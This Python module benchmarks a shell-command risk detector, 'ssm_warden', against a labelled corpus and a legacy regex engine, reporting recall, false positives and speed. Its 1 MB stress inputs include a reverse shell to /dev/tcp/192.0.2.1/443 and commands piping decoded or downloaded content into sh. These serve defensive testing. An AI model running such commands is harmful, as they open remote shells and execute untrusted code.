"""Detector figures on the labelled command corpus, and its speed, printed as JSON lines.

Run ``python -m bench`` (every bench module) or ``python -m bench.corpus``. The corpus folder is
``$SSM_WARDEN_CORPUS`` or the first of ``../shared/corpus/dev`` (beside the checkout) and
``/work/shared/corpus/dev`` that exists; without one only the timing lines are printed.

Every figure is printed for the current detector and, beside it (``"engine": "legacy"``), for the
detector as it was before issue 12 (``bench/legacy``: the regex normaliser and regex-only packs),
judged in the same run on the same items.

Cross-validation (``figure: cv_half``): the corpus is split in two halves by a hash of each item's
group, the source file without its fragment plus the ATT&CK technique (``sha256(group) % 2``), so
every form of one technique from one source is on the same side. The fact rules and their lists
were written from the behaviours named in issue 12, not from either half; the legacy regex rules
were developed on the whole dev corpus, so their halves show how much of their recall is fit.
Hard negatives (``bench/data/hard_negatives.jsonl``, written by ``bench.hard_negatives``) are
split the same way by their technique.

Figures: recall on risky items (all, ``severity_hint`` high), the share of benign items given any
verdict but ``allow`` (nl2bash + tldr, and each file), benign items rated high or critical, recall
per source file and per category, and the confusion of predicted severity against the hint.
A multi-line item is judged as the snippet it is (``judge_command`` judges it whole and line by
line). Speed: a 1 MB line of several shapes, and the whole corpus in commands per second, each
beside a baseline measured in the same run (``shlex.split`` + lowercasing the same input). The
corpus is judged in ``CORPUS_PASSES`` interleaved passes per engine (current, legacy, current, …):
the least wall time of each, the median, the least CPU time, and the speed ratio new/legacy (of the
minimums, and per pass) are printed, so a figure taken on a busy machine shows how unsteady it is.
"""

from __future__ import annotations

import functools
import hashlib
import json
import os
import random
import shlex
import statistics
import string
import sys
import time
from collections import Counter, defaultdict
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from ssm_warden.detect import verdict_for
from ssm_warden.detect.detector import Detector, get_detector, max_severity
from ssm_warden.detect.rules import load_rules
from ssm_warden.models.findings import Severity
from ssm_warden.policy.evaluate import strictest_settings
from ssm_warden.policy.loader import default_policy

ROOT = Path(__file__).resolve().parent.parent
BENIGN_FP_FILES = ("nl2bash.jsonl", "tldr.jsonl")
CORPUS_PASSES = 5  # interleaved timing passes over the whole corpus, per engine


@dataclass(frozen=True, slots=True)
class Item:
    file: str
    command: str
    label: str
    category: str
    severity_hint: str
    group: str = ""

    @property
    def half(self) -> int:
        return hashlib.sha256(self.group.encode()).digest()[0] % 2


@dataclass(frozen=True, slots=True)
class Judged:
    item: Item
    verdict: str
    severity: Severity | None
    rules: tuple[str, ...]


def corpus_dir() -> Path | None:
    env = os.environ.get("SSM_WARDEN_CORPUS")
    candidates = [Path(env)] if env else []
    candidates += [ROOT.parent / "shared" / "corpus" / "dev", Path("/work/shared/corpus/dev")]
    return next((c for c in candidates if c.is_dir() and any(c.glob("*.jsonl"))), None)


def load_items(folder: Path) -> list[Item]:
    items: list[Item] = []
    for path in sorted(folder.glob("*.jsonl")):
        with path.open(encoding="utf-8") as handle:
            for line in handle:
                if not line.strip():
                    continue
                raw = json.loads(line)
                group = raw.get("source", "").split("#", 1)[0] + "|" + raw.get("attack", "")
                items.append(
                    Item(
                        path.name, raw["command"], raw["label"], raw["category"], raw["severity_hint"], group
                    )
                )
    return items


def hard_negative_items() -> list[Item]:
    from bench.hard_negatives import DATA, hard_negatives

    rows = (
        [json.loads(line) for line in DATA.read_text(encoding="utf-8").splitlines() if line.strip()]
        if DATA.is_file()
        else hard_negatives()
    )
    return [Item("hard_negatives", r["command"], "benign", "benign", "none", r["technique"]) for r in rows]


def judge_all(detector: Any, items: list[Item]) -> list[Judged]:
    actions = strictest_settings(default_policy().policy)
    out: list[Judged] = []
    for item in items:
        findings = detector.judge_command(item.command)
        out.append(
            Judged(
                item,
                verdict_for(findings, actions),
                max_severity(findings),
                tuple(f.rule for f in findings),
            )
        )
    return out


def _ratio(num: int, den: int) -> float | None:
    return round(num / den, 4) if den else None


def figures(judged: list[Judged]) -> Iterator[dict[str, Any]]:
    risky = [j for j in judged if j.item.label == "risky"]
    benign = [j for j in judged if j.item.label == "benign"]
    high = [j for j in risky if j.item.severity_hint == "high"]
    fp_pool = [j for j in benign if j.item.file in BENIGN_FP_FILES]

    def flagged(js: list[Judged]) -> int:
        return sum(1 for j in js if j.verdict != "allow")

    yield {
        "figure": "overall",
        "risky": len(risky),
        "recall_risky": _ratio(flagged(risky), len(risky)),
        "risky_high": len(high),
        "recall_high": _ratio(flagged(high), len(high)),
        "benign_nl2bash_tldr": len(fp_pool),
        "benign_flagged_rate": _ratio(flagged(fp_pool), len(fp_pool)),
        "benign_flagged": flagged(fp_pool),
        "benign_all_flagged": flagged(benign),
        "benign_high_or_critical": sum(1 for j in benign if j.severity in (Severity.HIGH, Severity.CRITICAL)),
        "high_hint_terminated": _ratio(sum(1 for j in high if j.verdict == "terminate"), len(high)),
    }
    by_file: dict[str, list[Judged]] = defaultdict(list)
    for j in judged:
        by_file[j.item.file].append(j)
    for name, js in sorted(by_file.items()):
        r = [j for j in js if j.item.label == "risky"]
        b = [j for j in js if j.item.label == "benign"]
        yield {
            "figure": "file",
            "file": name,
            "risky": len(r),
            "recall": _ratio(flagged(r), len(r)),
            "benign": len(b),
            "benign_flagged": flagged(b),
            "benign_flagged_rate": _ratio(flagged(b), len(b)),
        }
    by_cat: dict[str, list[Judged]] = defaultdict(list)
    for j in risky:
        by_cat[j.item.category].append(j)
    for cat, js in sorted(by_cat.items()):
        yield {
            "figure": "category",
            "category": cat,
            "risky": len(js),
            "recall": _ratio(flagged(js), len(js)),
        }
    confusion: dict[str, Counter[str]] = defaultdict(Counter)
    for j in judged:
        confusion[j.item.severity_hint][j.severity.value if j.severity else "none"] += 1
    for hint in ("high", "medium", "low", "none"):
        row = confusion.get(hint, Counter())
        yield {
            "figure": "severity_confusion",
            "hint": hint,
            **{p: row.get(p, 0) for p in ("none", "low", "medium", "high", "critical")},
        }


def cv_figures(judged: list[Judged], hard: list[Judged]) -> Iterator[dict[str, Any]]:
    for half in (0, 1):
        js = [j for j in judged if j.item.half == half]
        high = [j for j in js if j.item.label == "risky" and j.item.severity_hint == "high"]
        risky = [j for j in js if j.item.label == "risky"]
        fp_pool = [j for j in js if j.item.label == "benign" and j.item.file in BENIGN_FP_FILES]
        hn = [j for j in hard if j.item.half == half]
        yield {
            "figure": "cv_half",
            "half": half,
            "risky": len(risky),
            "recall_risky": _ratio(sum(j.verdict != "allow" for j in risky), len(risky)),
            "risky_high": len(high),
            "recall_high": _ratio(sum(j.verdict != "allow" for j in high), len(high)),
            "benign_flagged_rate": _ratio(sum(j.verdict != "allow" for j in fp_pool), len(fp_pool)),
            "hard_negatives": len(hn),
            "hard_negatives_flagged_rate": _ratio(sum(j.verdict != "allow" for j in hn), len(hn)),
            "hard_negatives_high": sum(1 for j in hn if j.severity in (Severity.HIGH, Severity.CRITICAL)),
        }
    yield {
        "figure": "hard_negatives",
        "items": len(hard),
        "flagged": sum(j.verdict != "allow" for j in hard),
        "flagged_rules": sorted({r for j in hard for r in j.rules}),
        "high_or_critical": sum(1 for j in hard if j.severity in (Severity.HIGH, Severity.CRITICAL)),
    }


def _time(fn: Callable[[], object], repeat: int = 3) -> float:
    best = float("inf")
    for _ in range(repeat):
        start = time.perf_counter()
        fn()
        best = min(best, time.perf_counter() - start)
    return best


def _baseline(text: str) -> None:
    try:
        [w.lower() for w in shlex.split(text)]
    except ValueError:
        text.lower().split()


def long_lines(size: int = 1 << 20) -> dict[str, str]:
    rng = random.Random(7)
    words = ["curl", "-s", "http://example.com/a", "|", "grep", "x", ";", "echo", "$a", "'q'", '"d d"']
    random_words = " ".join(rng.choice(words) for _ in range(size // 6))[:size]
    b64 = "".join(rng.choice(string.ascii_letters + string.digits + "+/") for _ in range(size - 40))
    return {
        "random_shell_words": random_words,
        "one_long_word": "a" * size,
        "base64_blob_to_shell": f"echo {b64} | base64 -d | sh",
        "many_pipes_then_shell": ("curl x | " * (size // 9))[: size - 4] + "| sh",
        "quotes_and_escapes": ("c'u'\"r\"\\l " * (size // 12))[:size],
        "unbalanced_quote": "echo '" + "x " * (size // 2 - 4),
        "assignments": ("a=b;" * (size // 4))[:size],
        "dev_tcp_at_the_end": "x" * (size - 40) + " ; bash -i >& /dev/tcp/192.0.2.1/443 0>&1",
    }


def _legacy_detector() -> Any:
    from bench.legacy.detector import get_detector as legacy_detector

    return legacy_detector()


def _judge_all_commands(detector: Any, commands: list[str]) -> None:
    for command in commands:
        detector.judge_command(command)


def _baseline_all(commands: list[str]) -> None:
    for command in commands:
        _baseline(command)


def timing(detector: Detector, items: list[Item]) -> Iterator[dict[str, Any]]:
    legacy = _legacy_detector()
    for shape, line in long_lines().items():
        rules = sorted({f.rule for f in detector.judge_command(line)})
        seconds = _time(functools.partial(detector.judge_command, line))
        legacy_seconds = _time(functools.partial(legacy.judge_command, line))
        # shlex is slow on long words (seconds per megabyte): measured once.
        baseline = _time(functools.partial(_baseline, line), repeat=1)
        yield {
            "figure": "timing_1mb_line",
            "shape": shape,
            "bytes": len(line.encode()),
            "detector_seconds": round(seconds, 4),
            "legacy_detector_seconds": round(legacy_seconds, 4),
            "baseline_shlex_lower_seconds": round(baseline, 4),
            "findings": rules,
        }
    if items:
        commands = [i.command for i in items]
        # Interleaved passes (new, legacy, new, …) so that both see the same machine; the least
        # time of each is the figure least disturbed by other processes, the median says how
        # steady it was, and CPU time is kept beside wall time (steadier on a shared machine).
        walls: dict[str, list[float]] = {"new": [], "legacy": []}
        cpus: dict[str, list[float]] = {"new": [], "legacy": []}
        for _ in range(CORPUS_PASSES):
            for name, engine in (("new", detector), ("legacy", legacy)):
                wall, cpu = time.perf_counter(), time.process_time()
                _judge_all_commands(engine, commands)
                walls[name].append(time.perf_counter() - wall)
                cpus[name].append(time.process_time() - cpu)
        det, old = min(walls["new"]), min(walls["legacy"])
        base = _time(functools.partial(_baseline_all, commands), repeat=1)
        n = len(commands)
        yield {
            "figure": "timing_corpus",
            "commands": n,
            "passes": CORPUS_PASSES,
            "detector_seconds": round(det, 3),
            "detector_commands_per_second": round(n / det),
            "legacy_detector_commands_per_second": round(n / old),
            "detector_commands_per_second_median": round(n / statistics.median(walls["new"])),
            "legacy_detector_commands_per_second_median": round(n / statistics.median(walls["legacy"])),
            "detector_cpu_commands_per_second": round(n / min(cpus["new"])),
            "legacy_detector_cpu_commands_per_second": round(n / min(cpus["legacy"])),
            "speed_ratio_new_to_legacy_wall_min": round(old / det, 3),
            "speed_ratio_new_to_legacy_cpu_min": round(min(cpus["legacy"]) / min(cpus["new"]), 3),
            "speed_ratio_new_to_legacy_per_pass_cpu": sorted(
                round(o / w, 2) for w, o in zip(cpus["new"], cpus["legacy"], strict=True)
            ),
            "baseline_shlex_lower_commands_per_second": round(n / base),
        }
    start = time.perf_counter()
    Detector(load_rules())
    yield {"figure": "timing_compile_rules", "seconds": round(time.perf_counter() - start, 4)}


def main() -> None:
    detector = get_detector()
    folder = corpus_dir()
    items = load_items(folder) if folder else []
    if folder is None:
        print(json.dumps({"figure": "corpus", "skipped": "no corpus folder found"}))
    else:
        print(json.dumps({"figure": "corpus", "folder": str(folder), "items": len(items)}))
        hard = hard_negative_items()
        for engine, judge in (("current", detector), ("legacy", _legacy_detector())):
            for row in figures(judge_all(judge, items)):
                print(json.dumps({"engine": engine, **row}))
            for row in cv_figures(judge_all(judge, items), judge_all(judge, hard)):
                print(json.dumps({"engine": engine, **row}))
    for row in timing(detector, items):
        print(json.dumps(row))
    sys.stdout.flush()


if __name__ == "__main__":
    main()
